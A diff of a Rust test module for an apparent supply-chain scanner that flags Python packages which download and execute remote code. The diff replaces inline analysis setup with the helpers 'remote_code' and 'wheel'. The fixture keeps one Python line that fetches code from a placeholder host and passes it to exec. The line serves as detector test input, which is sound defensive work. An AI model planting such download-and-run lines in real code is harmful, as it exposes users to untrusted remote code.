@@ -1,19 +1,9 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::{remote_code, wheel};
+use crate::unpack::{Entry, text_file as file};
+use customs_model::Zone;
 
 fn runs(entries: Vec<Entry>) -> Zone {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    let zones = found
-        .flows
-        .iter()
-        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
-        .map(|flow| flow.zone);
-    zones.max().unwrap_or(Zone::Never)
+    remote_code(entries).unwrap_or(Zone::Never)
 }
 
 /// When what a module hands over runs; `go` runs what it downloads.
@@ -22,10 +12,7 @@ fn python(code: &str) -> Zone {
         "import atexit, threading\nimport urllib.request\n\
          def go():\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n{code}"
     );
-    runs(vec![
-        file("a/__init__.py", &code),
-        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-    ])
+    runs(wheel(&code))
 }
 
 /// A class that keeps what it gets, with more lines in its constructor.
